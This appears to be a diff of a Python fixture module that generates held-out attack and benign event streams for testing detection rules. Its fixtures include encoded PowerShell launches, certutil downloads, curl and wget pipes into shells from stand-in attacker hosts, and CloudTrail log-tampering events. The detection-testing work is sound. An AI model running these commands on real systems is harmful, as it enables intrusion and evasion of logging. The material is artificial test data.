@@ -1,8 +1,10 @@
-"""Events that the generator of `ruleforge agent` never saw: for each example case, further attacks and ordinary use.
+"""Events that the generator of `ruleforge agent` never saw: for each case, further attacks and ordinary use.
 
 Written apart from the cases and strategies, with what others do in such attacks: other programs, options, places, paces.
 Hard ones are among them on purpose; what a rule misses here is a figure and not a reason to change an example.
 """
+
+# ruff: noqa: E501 - tables
 
 from collections.abc import Callable, Iterator
 from typing import Any
@@ -85,14 +87,24 @@ def encoded() -> Iterator[Stream]:
         ("pwsh.exe", f"pwsh.exe -NonI -e {blob}", "services.exe"),
         ("cmd.exe", f"cmd.exe /c powershell -nop -enc {blob}", "winword.exe"),
         ("powershell.exe", f"powershell.exe /enc {blob}", "outlook.exe"),
-        ("powershell.exe", f"\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -ec {blob}", "svchost.exe"),
+        (
+            "powershell.exe",
+            f'"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -ec {blob}',
+            "svchost.exe",
+        ),
     ):
         yield one(proc(name, line, parent))
 
 
 def encoded_ordinary() -> Iterator[Stream]:
     yield one(proc("powershell.exe", "powershell.exe -Encoding utf8 -File C:\\Jobs\\export.ps1", "taskeng.exe"))
-    yield one(proc("powershell.exe", "powershell.exe -ExecutionPolicy RemoteSigned -File C:\\Jobs\\nightlyinventoryofmachines.ps1", "taskeng.exe"))
+    yield one(
+        proc(
+            "powershell.exe",
+            "powershell.exe -ExecutionPolicy RemoteSigned -File C:\\Jobs\\nightlyinventoryofmachines.ps1",
+            "taskeng.exe",
+        )
+    )
     yield one(proc("cmd.exe", "cmd.exe /c echo encoded", "explorer.exe"))
 
 
@@ -100,7 +112,7 @@ def web_worker() -> Iterator[Stream]:
     for name, line in (
         ("cmd.exe", "cmd.exe /c ipconfig /all"),
         ("powershell.exe", "powershell.exe -c Get-ChildItem C:\\inetpub"),
-        ("cmd.exe", "\"C:\\Windows\\System32\\cmd.exe\" /c echo x > C:\\inetpub\\a.aspx"),
+        ("cmd.exe", '"C:\\Windows\\System32\\cmd.exe" /c echo x > C:\\inetpub\\a.aspx'),
         ("CMD.EXE", "CMD.EXE /Q /C tasklist"),
         ("cscript.exe", "cscript.exe //B C:\\inetpub\\temp\\a.vbs"),
         ("cmd.exe", "cmd /c certutil -urlcache -f http://203.0.113.9/a.exe a.exe"),
@@ -117,9 +129,9 @@ def web_worker_ordinary() -> Iterator[Stream]:
 def pipe() -> Iterator[Stream]:
     for entry in (
         ("bash", "bash -c 'curl -L https://x.attacker.example/s | sudo bash -s -- -y'", "sshd"),
-        ("sh", "sh -c \"wget http://203.0.113.200/p -O- | perl\"", "apache2"),
+        ("sh", 'sh -c "wget http://203.0.113.200/p -O- | perl"', "apache2"),
         ("dash", "dash -c 'curl -k https://198.51.100.31:8443/a.sh|/bin/sh'", "java"),
-        ("bash", "bash -c \"(curl -s ftp://203.0.113.12/m || wget -qO- http://203.0.113.12/m) | bash\"", "cron"),
+        ("bash", 'bash -c "(curl -s ftp://203.0.113.12/m || wget -qO- http://203.0.113.12/m) | bash"', "cron"),
         ("sh", "sh -c 'curl -fsSL http://203.0.113.61/run.rb | ruby'", "puma"),
         ("bash", "bash -c 'bash <(curl -s http://203.0.113.61/run.sh)'", "node"),
     ):
@@ -134,7 +146,10 @@ def pipe_ordinary() -> Iterator[Stream]:
 
 def _looking(programs: str, parent: str, every: int, host: str) -> Stream:
     return [
-        {"time": f"2099-09-01T12:{at * every // 60:02}:{at * every % 60:02}Z", "fields": proc(name, name, parent, host=host)}
+        {
+            "time": f"2099-09-01T12:{at * every // 60:02}:{at * every % 60:02}Z",
+            "fields": proc(name, name, parent, host=host),
+        }
         for at, name in enumerate(programs.split())
     ]
 
@@ -226,7 +241,7 @@ def one_domain_ordinary() -> Iterator[Stream]:
 # --- cloud ---------------------------------------------------------------------------------------------------------
 
 
-def call(service: str, action: str, **more: Any) -> Fields:
+def call(service: str, action: str, **more: Any) -> Fields:  # noqa: ANN401 - values of any field
     given: Fields = {
         "provider": "aws", "service": f"{service}.amazonaws.com", "action": action, "outcome": "success", "user": "eve",
         "user.type": "IAMUser", "source.address": "203.0.113.140", "region": "eu-north-1", "user_agent": "aws-cli/2.15",
@@ -253,7 +268,9 @@ def trail() -> Iterator[Stream]:
         (("StopLogging", "success"), ("DeleteTrail", "success"), ("StopLogging", "failure"), ("DeleteTrail", "success"),
          ("UpdateTrail", "success"), ("PutEventSelectors", "success"))
     ):  # fmt: skip
-        yield one(call("cloudtrail", action, outcome=outcome, source_address=f"198.51.100.{at}", request={"/name": f"t{at}"}))
+        yield one(
+            call("cloudtrail", action, outcome=outcome, source_address=f"198.51.100.{at}", request={"/name": f"t{at}"})
+        )
 
 
 def opened() -> Iterator[Stream]:
@@ -291,10 +308,14 @@ def cloud_streams() -> Iterator[Stream]:
         given = call("ec2", "Describe{n}", source_address=f"192.0.2.{at}", read_only="true")
         yield [many(15 + at, "1s", given)]
     for at in range(8):
-        refused = call("s3", f"Put{at}", outcome="failure", source_address=f"192.0.2.{20 + at}") | {"error.code": "AccessDenied"}
+        refused = call("s3", f"Put{at}", outcome="failure", source_address=f"192.0.2.{20 + at}") | {
+            "error.code": "AccessDenied"
+        }
         yield [many(10 * (at + 1), "2s", refused)]
     for at in range(5):
-        refused = call("iam", "Get{n}", outcome="failure", source_address=f"192.0.2.{40 + at}") | {"error.code": "AccessDenied"}
+        refused = call("iam", "Get{n}", outcome="failure", source_address=f"192.0.2.{40 + at}") | {
+            "error.code": "AccessDenied"
+        }
         yield [many(2 + at, "20s", refused)]
 
 
@@ -345,14 +366,18 @@ def logins() -> Iterator[Stream]:
             {"time": "2099-09-01T12:01:00Z", "fields": login("success", f"p{at}", f"192.0.2.{at}")},
         ]
     for at in range(5):
-        yield [many(20 + 10 * at, "1s", login("success", "deploy", f"192.0.2.{50 + at}") | {"auth.method": "publickey"})]
+        yield [
+            many(20 + 10 * at, "1s", login("success", "deploy", f"192.0.2.{50 + at}") | {"auth.method": "publickey"})
+        ]
     for at in range(4):
         yield [many(8, "30m", login("failure", f"q{at}", f"192.0.2.{60 + at}"))]
     for at in range(3):
         yield [many(30, "5s", login("failure", "p{n}", f"192.0.2.1{{n}}{at}"[:12]))]  # each from elsewhere
     yield [many(3, "2s", login("failure", "mistyped{n}", "192.0.2.70"))]
     yield [many(6, "9s", login("failure", "old-laptop", "192.0.2.71"))]
-    yield [many(200, "10s", {"action": "session", "outcome": "success", "service": "cron", "user": "root", "host": "edge"})]
+    yield [
+        many(200, "10s", {"action": "session", "outcome": "success", "service": "cron", "user": "root", "host": "edge"})
+    ]
 
 
 HELD_OUT: dict[str, tuple[Callable[[], Iterator[Stream]], list[Stream]]] = {
